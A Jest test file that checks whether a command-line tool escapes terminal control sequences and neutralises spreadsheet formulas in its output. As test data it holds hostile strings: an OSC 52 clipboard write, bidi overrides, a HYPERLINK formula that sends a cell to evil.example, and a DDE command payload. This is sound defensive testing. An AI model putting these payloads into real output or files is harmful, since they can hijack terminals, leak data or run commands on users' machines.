/**
 * Terminal and spreadsheet injection (issue 21, section 4): a real 127.0.0.1 server answers the bundled bin with
 * strings carrying terminal control sequences (OSC 52 clipboard write, window title, clear screen, OSC 8 link,
 * 8-bit CSI, backspaces, CR) and bidi controls in values and in keys. In every output mode the bytes on stdout and
 * stderr hold none of them; JSON still parses back to exactly what was sent; CSV cells that a spreadsheet would
 * run are neutralised unless --csv-raw.
 */
/* eslint-disable no-control-regex -- control characters are what these tests look for */
import { startServer, json } from '../support/local-server';
import { parseCsv } from '../support/csv';
import { csvField, neutraliseFormula } from '../../src/cli/output/csv.js';
import { escapeControls } from '../../src/cli/output/safe-text.js';
import { useCliAgainst } from './support';

jest.setTimeout(120_000);

const KEY = 'sk-admin-HOSTILE-do-not-print-51c0ffee';

const ATTACKS = [
  '\x1b]52;c;ZWNobyBwd25lZA==\x07', // OSC 52: writes the clipboard
  '\x1b]0;pwned title\x07', // window title
  '\x1b[2J\x1b[H', // clear screen, cursor home
  '\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\', // OSC 8 hyperlink
  '\u009b31m', // 8-bit CSI (C1)
  '\u009d0;c1 title\u009c', // 8-bit OSC … ST
  'abc\b\b\bxyz', // backspaces overwrite
  'line\rover', // CR returns to the line start
  'tab\there',
  '\u202egnp.exe', // RIGHT-TO-LEFT OVERRIDE
  '\u200e\u200f\u202a\u202b\u202c\u202d\u2066\u2067\u2068\u2069\u061c', // the other bidi controls
  '\u2028\u2029\x7f\0', // line/paragraph separators, DEL, NUL
].join('|');

/** Anything that can drive a terminal or reorder a line: C0 but LF, DEL, C1, bidi controls, U+2028/9. */
const TERMINAL_UNSAFE = /[\0-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/u;
/** In JSON and CSV, CR and tab are part of the syntax (CSV's CRLF, a tab inside a cell); nothing else. */
const STRUCTURED_UNSAFE =
  /[\0-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]/u;

const project = (id: string) => ({
  id,
  object: 'organization.project',
  name: `proj ${ATTACKS}`,
  status: 'active',
  created_at: 1_700_000_000,
  [`key ${ATTACKS}`]: 'value in a hostile key',
  formula: '=HYPERLINK("https://evil.example/?"&A1,"click")',
  plus: "+1+cmd|' /C calc'!A0",
  minus: '-2+3+cmd|x',
  at: '@SUM(A1:A9)',
  tabbed: '\t=1+1',
  spaced: '  =1+1',
  negative: -5,
  negative_text: '-5',
  exponent: '-2e3',
});

const auditEvent = (id: string) => ({
  id,
  object: 'organization.audit_log',
  type: `project.created ${ATTACKS}`,
  effective_at: 1_700_000_000,
  actor: { type: 'session', session: { user: { id: 'user_1', email: `x${ATTACKS}@example.com` } } },
  project: { id: 'proj_1', name: `proj ${ATTACKS}` },
});

const list = (data: unknown[]) => ({
  object: 'list',
  data,
  first_id: (data[0] as { id: string }).id,
  last_id: (data.at(-1) as { id: string }).id,
  has_more: false,
});

const { cli } = useCliAgainst(KEY, () =>
  startServer((_req, res, seen) => {
    const path = seen.url.split('?')[0];
    if (path === '/v1/organization/projects') return json(res, 200, list([project('proj_1'), project('proj_2')]));
    if (path === '/v1/organization/projects/proj_1') return json(res, 200, project('proj_1'));
    if (path === '/v1/organization/audit_logs') return json(res, 200, list([auditEvent('audit_1')]));
    return json(res, 400, {
      error: { message: `Invalid project ${ATTACKS}`, type: 'invalid_request_error', param: null, code: null },
    });
  }),
);

/** Where the first unsafe character is, for a readable failure. */
const firstUnsafe = (text: string, unsafe: RegExp) => {
  const m = unsafe.exec(text);
  return m
    ? `U+${m[0].charCodeAt(0).toString(16).padStart(4, '0')} at ${m.index}: …${JSON.stringify(text.slice(Math.max(0, m.index - 20), m.index + 20))}…`
    : null;
};

describe('human-readable output holds no control or bidi character, shown instead as a visible \\uXXXX escape', () => {
  test.each([
    ['the default table', ['projects', 'list']],
    ['the single-object view (values and keys)', ['projects', 'retrieve', 'proj_1']],
    ['audit-logs list', ['audit-logs', 'list']],
  ])('%s', async (_what, args) => {
    const r = await cli(args);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(firstUnsafe(r.stdout, TERMINAL_UNSAFE)).toBeNull();
    // Shown, not dropped: the reader sees that something was there.
    expect(r.stdout).toContain('\\u001b]52;c;ZWNobyBwd25lZA==\\u0007');
    expect(r.stdout).toContain('\\u009b31m');
    expect(r.stdout).toContain('\\u202egnp.exe');
  });

  test('the single-object view escapes the hostile key too, and keeps one line per field', async () => {
    const r = await cli(['projects', 'retrieve', 'proj_1']);
    const line = r.stdout.split('\n').find((l) => l.includes('value in a hostile key'))!;
    expect(line.startsWith('key \\u001b]52;')).toBe(true);
    expect(r.stdout.split('\n').filter(Boolean)).toHaveLength(Object.keys(project('x')).length);
  });

  test('the stderr error line (with and without --debug, which adds the stack)', async () => {
    for (const r of [
      await cli(['projects', 'retrieve', 'proj_bad']),
      await cli(['projects', 'retrieve', 'proj_bad', '--debug']),
    ]) {
      expect(r.code).toBe(1);
      expect(r.stdout).toBe('');
      expect(firstUnsafe(r.stderr, TERMINAL_UNSAFE)).toBeNull();
      expect(r.stderr).toMatch(/^BadRequestError: .*Invalid project \\u001b\]52;/m);
      expect(r.stderr).not.toContain(KEY);
    }
  });
});

describe('--json and --ndjson: C1, bidi and U+2028/9 escaped as JSON escapes; the parsed values are exactly what was sent', () => {
  test.each([
    ['projects list --json', ['projects', 'list', '--json'], [project('proj_1'), project('proj_2')]],
    ['projects retrieve --json', ['projects', 'retrieve', 'proj_1', '--json'], project('proj_1')],
    ['audit-logs list --json', ['audit-logs', 'list', '--json'], [auditEvent('audit_1')]],
  ])('%s', async (_what, args, expected) => {
    const r = await cli(args);
    expect(r.code).toBe(0);
    expect(firstUnsafe(r.stdout, STRUCTURED_UNSAFE)).toBeNull();
    expect(r.stdout).toContain('\\u009b31m');
    expect(r.stdout).toContain('\\u2028\\u2029');
    expect(JSON.parse(r.stdout)).toEqual(expected);
  });

  test.each([
    ['projects list --ndjson', ['projects', 'list', '--ndjson'], [project('proj_1'), project('proj_2')]],
    ['audit-logs list --ndjson', ['audit-logs', 'list', '--ndjson'], [auditEvent('audit_1')]],
  ])('%s', async (_what, args, expected) => {
    const r = await cli(args);
    expect(r.code).toBe(0);
    expect(firstUnsafe(r.stdout, STRUCTURED_UNSAFE)).toBeNull();
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines.map((l) => JSON.parse(l))).toEqual(expected);
  });
});

describe('--csv: formulas neutralised with a leading quote, numbers left alone, controls escaped; --csv-raw as sent', () => {
  const cells = (text: string) => {
    const [header, ...rows] = parseCsv(text);
    return rows.map((row) => Object.fromEntries(header.map((h, i) => [h, row[i]])));
  };

  test('projects list --csv and audit-logs list --csv', async () => {
    const [projects, audit] = await Promise.all([
      cli(['projects', 'list', '--csv']),
      cli(['audit-logs', 'list', '--csv']),
    ]);
    for (const r of [projects, audit]) {
      expect(r.code).toBe(0);
      expect(r.stderr).toBe('');
      expect(firstUnsafe(r.stdout, STRUCTURED_UNSAFE)).toBeNull();
    }
    const [row] = cells(projects.stdout);
    expect(row.formula).toBe(`'${project('x').formula}`);
    expect(row.plus).toBe(`'${project('x').plus}`);
    expect(row.minus).toBe(`'${project('x').minus}`);
    expect(row.at).toBe(`'@SUM(A1:A9)`);
    expect(row.tabbed).toBe(`'\t=1+1`);
    expect(row.spaced).toBe(`'  =1+1`);
    // Genuinely numeric values, as a JSON number or as text, stay numbers.
    expect(row.negative).toBe('-5');
    expect(row.negative_text).toBe('-5');
    expect(row.exponent).toBe('-2e3');
    expect(row.name.startsWith('proj \\u001b]52;')).toBe(true);
    expect(
      row[
        `key ${ATTACKS}`.replace(
          new RegExp(STRUCTURED_UNSAFE.source, 'gu'),
          (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`,
        )
      ],
    ).toBe('value in a hostile key');
    expect(cells(audit.stdout)[0].type.startsWith('project.created \\u001b]52;')).toBe(true);
  });

  test('--csv-raw writes every cell exactly as sent (and alone selects CSV)', async () => {
    const r = await cli(['projects', 'list', '--csv-raw']);
    expect(r.code).toBe(0);
    const [row] = cells(r.stdout);
    const sent = project('x');
    expect(row.formula).toBe(sent.formula);
    expect(row.tabbed).toBe(sent.tabbed);
    expect(row.name).toBe(sent.name);
    expect(row[`key ${ATTACKS}`]).toBe('value in a hostile key');
    expect((await cli(['projects', 'list', '--json', '--csv-raw'])).code).toBe(2);
  });
});

describe('the one neutralising function (safe-text.ts), over every UTF-16 code unit', () => {
  test('escapes exactly the C0/C1 controls, DEL, bidi controls and U+2028/9, keeps line ends as asked, and is idempotent', () => {
    const all = Array.from({ length: 0x10000 }, (_, i) => String.fromCharCode(i)).join('');
    const terminal = escapeControls(all);
    const structured = escapeControls(all, 'structure');
    expect(firstUnsafe(terminal, TERMINAL_UNSAFE)).toBeNull();
    expect(firstUnsafe(structured, STRUCTURED_UNSAFE)).toBeNull();
    expect(structured).toContain('\t\n\x0b'.replace('\x0b', '\\u000b'));
    expect(escapeControls(terminal)).toBe(terminal);
    // Everything else is untouched: the escapes account for the whole difference in length.
    const escaped = [...all].filter((c) => TERMINAL_UNSAFE.test(c));
    expect(terminal.length).toBe(all.length + escaped.length * 5);
    expect(escapeControls('\x1b[2J')).toBe('\\u001b[2J');
  });

  test('neutraliseFormula: the OWASP starts get a quote; plain numbers and ordinary text do not', () => {
    for (const cell of [
      '=1+1',
      '+1+1',
      '-1+1',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '  =1',
      '-',
      '+',
      '＝1+1',
      '＋1',
      '－1',
      '＠SUM(A1)',
      ' ＝1',
    ])
      expect(neutraliseFormula(cell)).toBe(`'${cell}`);
    for (const cell of ['-5', '+5', '-1.5', '.5', '-2e3', '12', 'name', 'a=b', 'x-y', ''])
      expect(neutraliseFormula(cell)).toBe(cell);
    // csvField escapes controls itself (a file written without the CLI's streams), and leaves everything raw if asked.
    expect(csvField('=1\x1b[2J\u202e')).toBe("'=1\\u001b[2J\\u202e");
    expect(csvField('=1\x1b[2J\u202e', true)).toBe('=1\x1b[2J\u202e');
  });
});
